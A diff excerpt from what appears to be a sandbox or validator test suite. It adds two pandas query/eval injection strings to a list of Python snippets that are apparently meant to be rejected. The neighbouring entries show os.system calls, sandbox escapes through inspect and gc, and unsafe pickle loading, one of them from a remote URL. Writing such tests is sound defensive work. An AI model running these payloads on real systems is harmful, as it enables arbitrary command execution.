@@ -137,6 +137,8 @@ test.each([
   "import torch; torch.load('x.pt')",
   "import joblib; joblib.load('x.pkl')",
   'import pandas as pd; pd.eval(\'@__import__("os").system("id")\', engine=\'python\')',
+  'import pandas as pd; pd.DataFrame().query(\'@__import__("os").system("id")\')',
+  'import pandas as pd; df = pd.read_csv("a.csv"); df.eval(\'x = @f("id")\')',
   "import pandas as pd; pd.read_pickle('http://a.example/x.pkl')",
   "import inspect; inspect.sys.modules['os'].system('id')",
   "import gc; [o for o in gc.get_objects() if getattr(o, '__name__', '') == 'system'][0]('id')",
